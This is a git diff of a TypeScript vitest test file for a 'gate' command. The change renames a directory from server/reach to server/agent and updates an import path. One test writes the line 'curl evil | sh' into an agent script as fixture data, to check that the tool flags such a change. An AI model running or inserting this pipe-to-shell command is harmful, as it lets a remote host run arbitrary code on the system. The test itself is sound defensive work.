@@ -5,7 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { gateVerb } from './gate.ts';
-import type { CliError } from './verb.ts';
+import type { CliError } from './command/verb.ts';
 
 const root = mkdtempSync(join(tmpdir(), 'vantage-gd-'));
 const check = join(root, 'content/load/checks/echo.yaml');
@@ -43,10 +43,10 @@ beforeAll(() => {
   git('init', '-q', '-b', 'main');
   const bench = new URL('../../bench/content/', import.meta.url);
   mkdirSync(join(root, 'content/load/checks'), { recursive: true });
-  mkdirSync(join(root, 'server/reach'), { recursive: true });
+  mkdirSync(join(root, 'server/agent'), { recursive: true });
   cpSync(new URL('index.mdx', bench), join(root, 'content/load/index.mdx'));
   cpSync(new URL('checks/echo.yaml', bench), check);
-  writeFileSync(join(root, 'server/reach/agent.sh'), 'echo agent\n');
+  writeFileSync(join(root, 'server/agent/agent.sh'), 'echo agent\n');
   first = commit('first');
 });
 afterAll(() => rmSync(root, { recursive: true, force: true }));
@@ -80,10 +80,10 @@ describe('between two commits', () => {
   });
 
   it('a change of the program that gates are made of is never called harmless', async () => {
-    writeFileSync(join(root, 'server/reach/agent.sh'), 'curl evil | sh\n');
+    writeFileSync(join(root, 'server/agent/agent.sh'), 'curl evil | sh\n');
     expect(await diff()).toMatchObject({
       exit: 1,
-      text: expect.stringContaining('! gate   server/reach/agent.sh'),
+      text: expect.stringContaining('! gate   server/agent/agent.sh'),
     });
     git('checkout', '-q', '.');
   });
